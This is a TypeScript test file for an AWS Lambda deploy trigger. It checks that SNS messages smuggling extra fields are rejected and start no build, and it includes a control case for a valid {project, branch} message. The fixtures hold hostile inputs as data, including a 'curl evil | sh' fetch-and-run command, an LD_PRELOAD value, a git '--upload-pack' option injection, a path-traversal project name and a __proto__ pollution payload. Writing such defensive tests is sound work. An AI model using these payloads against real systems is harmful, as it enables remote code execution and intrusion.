// Smuggling deploy instructions through the trigger: an SNS message that carries a gitUrl, a command, env, keys or
// CodeBuild overrides besides {project, branch}, or a project name that is a path. The handler starts nothing for them;
// the worker it starts gets PROJECTNAME and GITBRANCH, nothing else from the message.
import { beforeEach, describe, expect, it } from 'vitest';
import { handleDeployTrigger, type SnsEvent } from '../../src/lambda/deploy-trigger.js';
import { fileRegister } from '../../src/deploy/register-file.js';
import { deployWorld, type DeployWorld } from '../helpers/deploy-world.js';
import { useFixtureCleanup } from '../helpers/world.js';

useFixtureCleanup();

let w: DeployWorld;
let builds: { project: string; branch: string }[];
beforeEach(async () => {
  w = await deployWorld();
  builds = [];
  await w.writeRegister({ shop: w.entry() });
});

async function handle(message: unknown): Promise<{ started: number; rejected: number }> {
  const event: SnsEvent = { Records: [{ EventSource: 'aws:sns', Sns: { TopicArn: 'arn:aws:sns:eu-west-1:123456789012:deploy', Message: typeof message === 'string' ? message : JSON.stringify(message) } }] };
  const result = await handleDeployTrigger(event, { register: fileRegister(w.registerPath), startBuild: async (request) => (builds.push({ ...request }), 'build-1'), log: () => {} });
  return { started: result.started.length, rejected: result.rejected.length };
}

describe('a trigger message', () => {
  it.each([
    ['a gitUrl', { project: 'shop', branch: 'main', gitUrl: 'https://evil.example.com/shop.git' }],
    ['a command', { project: 'shop', branch: 'main', command: ['sh', '-c', 'curl evil | sh'] }],
    ['env', { project: 'shop', branch: 'main', env: { LD_PRELOAD: '/tmp/x.so' } }],
    ['keys', { project: 'shop', branch: 'main', keys: ['-----BEGIN PGP PUBLIC KEY BLOCK-----'] }],
    ['CodeBuild overrides', { project: 'shop', branch: 'main', environmentVariablesOverride: [{ name: 'CONFIGPATH', value: '/tmp/evil.json' }] }],
    ['a __proto__ key', '{"project":"shop","branch":"main","__proto__":{"gitUrl":"x"}}'],
    ['a project that is a path', { project: '../../tmp/evil', branch: 'main' }],
    ['a branch that is an option', { project: 'shop', branch: '--upload-pack=evil' }],
    ['a project not in the register', { project: 'other', branch: 'main' }],
    ['a project as an array', { project: ['shop'], branch: 'main' }],
  ])('carrying %s starts nothing', async (_, message) => {
    expect(await handle(message)).toEqual({ started: 0, rejected: 1 });
    expect(builds).toEqual([]);
  });

  it('control: {project, branch} of a registered project starts one build with exactly those two', async () => {
    expect(await handle({ project: 'shop', branch: 'main' })).toEqual({ started: 1, rejected: 0 });
    expect(builds).toEqual([{ project: 'shop', branch: 'main' }]);
  });
});
